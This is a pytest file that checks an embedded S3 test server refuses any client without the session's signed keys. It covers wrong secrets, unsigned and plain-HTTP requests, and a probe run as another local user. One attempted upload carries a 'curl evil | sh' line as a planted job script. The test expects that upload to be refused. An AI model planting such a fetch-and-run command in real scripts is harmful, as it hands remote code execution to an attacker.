"""The embedded S3 server answers this session only: its keys, signed, nothing else.

Real moto server, real boto3 clients, and a real second local user (`nobody`) trying what a
server that takes any key would allow: listing the bucket, reading the job's input, planting
code.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import urllib.error
import urllib.request

import boto3
import pytest
from botocore import UNSIGNED
from botocore.config import Config
from botocore.exceptions import ClientError

from mlmax.localmode.s3.server import S3Server, is_embedded_access_key, keys_for

BUCKET = "mlmax-auth-probe"
INPUT_KEY = "input/train.csv"
CODE_KEY = "source/runproc.sh"


@pytest.fixture(scope="module")
def s3():
    with S3Server() as server:
        client = _client(server, server.keys.access_key, server.keys.secret_key)
        client.create_bucket(Bucket=BUCKET)
        client.put_object(Bucket=BUCKET, Key=INPUT_KEY, Body=b"age,income\n41,1\n")
        client.put_object(Bucket=BUCKET, Key=CODE_KEY, Body=b"python3 job.py\n")
        yield server


def _client(server: S3Server, access_key: str, secret_key: str, **config: object):
    return boto3.client(
        "s3",
        endpoint_url=server.endpoint_url,
        region_name="us-east-1",
        aws_access_key_id=access_key,
        aws_secret_access_key=secret_key,
        config=Config(retries={"max_attempts": 1}, **config),
    )


def _attempts(client) -> dict[str, str]:
    """What list, get and put answered: "ok" or the S3 error code."""
    calls = {
        "list": lambda: client.list_objects_v2(Bucket=BUCKET),
        "get": lambda: client.get_object(Bucket=BUCKET, Key=INPUT_KEY)["Body"].read(),
        "put": lambda: client.put_object(Bucket=BUCKET, Key=CODE_KEY, Body=b"curl evil | sh\n"),
        "list buckets": lambda: client.list_buckets(),
    }
    answers = {}
    for name, call in calls.items():
        try:
            call()
            answers[name] = "ok"
        except ClientError as error:
            answers[name] = error.response["Error"]["Code"]
    return answers


def _code_object(server: S3Server) -> bytes:
    owner = _client(server, server.keys.access_key, server.keys.secret_key)
    return owner.get_object(Bucket=BUCKET, Key=CODE_KEY)["Body"].read()


def test_the_sessions_keys_list_get_and_put(s3):
    owner = _client(s3, s3.keys.access_key, s3.keys.secret_key)
    assert _attempts(owner) == dict.fromkeys(["list", "get", "put", "list buckets"], "ok")
    owner.put_object(Bucket=BUCKET, Key=CODE_KEY, Body=b"python3 job.py\n")  # undo the put
    # Multipart upload (the SDK's transfer manager for large inputs) is signed per part.
    owner.upload_fileobj(
        io.BytesIO(b"x" * (6 * 1024 * 1024)),
        BUCKET,
        "big.bin",
        Config=boto3.s3.transfer.TransferConfig(multipart_threshold=5 * 1024 * 1024),
    )
    assert owner.head_object(Bucket=BUCKET, Key="big.bin")["ContentLength"] == 6 * 1024 * 1024


def test_keys_are_random_per_server_and_known_only_in_this_process(s3):
    with S3Server() as other:
        assert other.keys.access_key != s3.keys.access_key
        assert other.keys.secret_key != s3.keys.secret_key
        assert keys_for(other.endpoint_url) == other.keys
        assert is_embedded_access_key(other.keys.access_key)
        gone = other.keys.access_key
    assert not is_embedded_access_key(gone)
    assert s3.keys.secret_key not in repr(s3.keys)


@pytest.mark.parametrize(
    "who",
    ["the right access key with a wrong secret", "made-up keys", "no signature at all"],
)
def test_anyone_without_the_secret_is_refused(s3, who):
    if who == "no signature at all":
        client = _client(s3, "x", "y", signature_version=UNSIGNED)
    elif who == "made-up keys":
        client = _client(s3, "AKIAANYTHING", "anything")
    else:
        client = _client(s3, s3.keys.access_key, "not-the-secret")
    refused = dict.fromkeys(["list", "get", "put", "list buckets"], "AccessDenied")
    assert _attempts(client) == refused
    assert _code_object(s3) == b"python3 job.py\n", "a refused PUT must not change anything"


def test_plain_http_is_refused(s3):
    for method in ("GET", "PUT"):
        request = urllib.request.Request(
            f"{s3.endpoint_url}/{BUCKET}/{CODE_KEY}",
            data=b"x" if method == "PUT" else None,
            method=method,
        )
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=5)
        assert refused.value.code == 403
    assert _code_object(s3) == b"python3 job.py\n"


_OTHER_USER_PROBE = """
import json, sys, urllib.request, urllib.error
import boto3
from botocore.config import Config
from botocore.exceptions import ClientError
endpoint, bucket, input_key, code_key = sys.argv[1:5]
client = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1",
    aws_access_key_id="AKIAOTHERUSER", aws_secret_access_key="guess",
    config=Config(retries={"max_attempts": 1}))
answers = {}
for name, call in {
    "list": lambda: client.list_objects_v2(Bucket=bucket),
    "get": lambda: client.get_object(Bucket=bucket, Key=input_key)["Body"].read(),
    "put": lambda: client.put_object(Bucket=bucket, Key=code_key, Body=b"evil"),
}.items():
    try:
        call(); answers[name] = "ok"
    except ClientError as error:
        answers[name] = error.response["Error"]["Code"]
try:
    urllib.request.urlopen(f"{endpoint}/{bucket}", timeout=5); answers["http"] = "ok"
except urllib.error.HTTPError as error:
    answers["http"] = error.code
print(json.dumps(answers))
"""


def test_another_local_user_is_refused(s3, tmp_path):
    if os.getuid() != 0:
        pytest.skip("needs root to run a probe as another local user (nobody); CI runs as root")
    setpriv = shutil.which("setpriv")
    assert setpriv, "setpriv (util-linux) is needed to run the probe as user nobody"
    probe = subprocess.run(
        [
            setpriv,
            "--reuid=nobody",
            "--regid=nogroup",
            "--clear-groups",
            sys.executable,
            "-c",
            _OTHER_USER_PROBE,
            s3.endpoint_url,
            BUCKET,
            INPUT_KEY,
            CODE_KEY,
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd="/",
        env={"PATH": os.environ["PATH"], "HOME": "/nonexistent"},
    )
    assert probe.returncode == 0, probe.stderr
    assert json.loads(probe.stdout) == {
        "list": "AccessDenied",
        "get": "AccessDenied",
        "put": "AccessDenied",
        "http": 403,
    }
    assert _code_object(s3) == b"python3 job.py\n"
